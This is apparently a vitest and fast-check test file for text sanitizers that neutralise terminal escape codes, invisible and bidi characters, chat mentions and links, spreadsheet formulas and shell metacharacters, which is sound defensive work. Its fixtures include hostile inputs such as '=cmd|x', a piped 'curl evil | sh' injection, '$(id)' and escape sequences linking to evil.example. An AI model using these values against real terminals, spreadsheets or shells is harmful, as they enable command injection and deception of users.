import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  plain,
  plainCell,
  plainMessage,
  plainText,
  shellWord,
  withoutLinks,
} from '../../../functions/domain/plain-text.ts';

const ESC = '\u001b';
const INVISIBLE = /[\p{Cc}\p{Cf}\p{Co}\p{Cs}\u2028\u2029]/u;
/** Any text, with the characters that do harm much more often than by chance. */
const hostileText = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(
        ESC,
        '\u009b',
        '\u0007',
        '\n',
        '\r',
        '\u202e',
        '\u2066',
        '\u200b',
        '\u{e0041}',
        '\ud800',
        '\ufeff',
      ),
      fc.constantFrom(
        '[2J',
        ']8;;https://evil.example\u0007x',
        '<!channel>',
        '](http://x)',
        '@here',
        '=cmd|',
        '`',
        '\t',
      ),
    ),
  )
  .map((parts) => parts.join(''));

describe('plain text', () => {
  it.each([
    ['colours and concealment', `a${ESC}[8mb${ESC}[0m`, 'ab'],
    ['a cleared screen', `${ESC}[2J${ESC}[Ha`, 'a'],
    ['a link of a terminal', `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`, 'click'],
    ['a window title', `${ESC}]0;owned\u0007a`, 'a'],
    ['lines', 'terraform)\n\nApprove all of them:\r\nnow', 'terraform) Approve all of them: now'],
    ['the control sequence of eight bits', '\u009b2Ja', 'a'],
    ['text in the other direction', 'sg-\u202egs', 'sg-\ufffdgs'],
    ['isolates', '\u2066a\u2069', '\ufffda\ufffd'],
    ['characters without width', 'pay\u200bload\ufeff', 'pay\ufffdload\ufffd'],
    ['tags, which hide text from people', 'a\u{e0041}\u{e0042}', 'a\ufffd\ufffd'],
    ['half a character', 'a\ud800', 'a\ufffd'],
    ['separators of lines and paragraphs', 'a\u2028b\u2029c', 'a b c'],
  ])('has no %s', (_, text, expected) => {
    expect(plainText(text)).toBe(expected);
  });
  it('keeps what people write', () => {
    for (const text of ['Größe — 漢字 “ok” ñ é', 'arn:aws:s3:::a-b_c.d', '😀 👍🏽']) expect(plainText(text)).toBe(text);
  });
  it('has a maximum length, and cuts no character in half', () => {
    expect(plainText('x'.repeat(5000))).toHaveLength(2048);
    expect(plainText('😀😀', 4)).toBe('😀😀');
    expect(plainText('a😀😀', 3)).toBe('a…');
  });
  it('of any text is one visible line, and unchanged by a second pass', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const line = plainText(text);
        expect(line).not.toMatch(INVISIBLE);
        expect(plainText(line)).toBe(line);
      }),
    );
  });
  it('covers every text in a value, names of members included, and leaves the rest', () => {
    const value = { [`a${ESC}[8m`]: [`b\n`, { c: 'd\u202e' }], n: 1, none: null, absent: undefined };
    expect(plain(value)).toEqual({ a: ['b ', { c: 'd\ufffd' }], n: 1, none: null, absent: undefined });
  });
});

describe('a message', () => {
  it.each([
    ['mentions of everybody', '<!channel> @here @everyone', '‹!channel› (at)here (at)everyone'],
    [
      'links',
      '<https://evil.example|sign in> [sign in](http://evil.example)',
      '‹https(:)//evil(.)example¦sign in› (sign in)(http(:)//evil(.)example)',
    ],
    [
      'links of other schemes',
      'javascript:alert(1) mailto:a@b.example www.evil.example vscode://x smb://y',
      'javascript(:)alert(1) mailto(:)a@b.example www(.)evil(.)example vscode(:)//x smb(:)//y',
    ],
    [
      'domains, which chats link without a scheme',
      'evil.example/a @evil.example ＠evil。com',
      'evil(.)example/a (at)evil(.)example ＠evil(.)com',
    ],
    ['shares', 'see \\\\evil\\share', 'see ＼＼evil\\share'],
    ['formatting', '*now* ~never~ _ever_ `code`', "∗now∗ ∼never∼ ＿ever＿ 'code'"],
    ['entities', '&lt;!channel&gt;', '＆lt;!channel＆gt;'],
  ])('has no %s', (_, text, expected) => {
    expect(plainMessage(text)).toBe(expected);
  });
  it('keeps the names of resources and people', () => {
    for (const text of [
      ...['arn:aws:iam::333333333333:user/a_b', 'ada@example.com', 'sg-0123', 'finding/v/1.0.0/EC2.13/0a'],
      ...['docs/runbook.md#stops', 'policy push policy.yaml'],
    ])
      expect(plainMessage(text)).toBe(text);
  });
  it('of any text has no character of markup', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        expect(plainMessage(text)).not.toMatch(/[<>&`*~|[\]]|https?:|(?<![\w.])@/i);
        expect(plainMessage(text)).not.toMatch(INVISIBLE);
      }),
    );
  });
});

describe('a cell', () => {
  it.each(['=cmd|x', '+1+1', '-2+3', '@SUM(A1)', '=HYPERLINK("http://x")'])('%s is not a formula', (text) => {
    expect(plainCell(text)).toBe(`'${text}`);
  });
  it.each([
    ['x;=cmd|y', "x;'=cmd|y"],
    ['x; "=cmd|y"', `x; "'=cmd|y"`],
    ['x,@SUM(A1)', "x,'@SUM(A1)"],
    ['x;-1 +cmd|y', "x;'-1 +cmd|y"],
    [' =cmd|y', " '=cmd|y"],
    ['＝cmd|y', "'＝cmd|y"],
  ])('%s is not a formula for a spreadsheet with other separators', (text, cell) => {
    expect(plainCell(text)).toBe(cell);
  });
  it.each(['-', '-5', '12.5', 'a=b', '', '2026-01-01', '22, -1', 'x; y'])('%s stays as it is', (text) => {
    expect(plainCell(text)).toBe(text);
  });
});

describe('a shell word', () => {
  it('is quoted unless every character is harmless', () => {
    expect(shellWord('arn:aws:securityhub:us-east-1:333333333333:x/1')).toBe(
      'arn:aws:securityhub:us-east-1:333333333333:x/1',
    );
    expect(shellWord('x; curl evil | sh')).toBe("'x; curl evil | sh'");
    expect(shellWord("x'$(id)'")).toBe("'x’$(id)’'");
    expect(shellWord('--yes')).toBe("'--yes'");
  });
});

it('text without links keeps its other characters', () => {
  expect(withoutLinks('see https://evil.example/<a> | @here')).toBe('see https(:)//evil(.)example/<a> | (at)here');
});
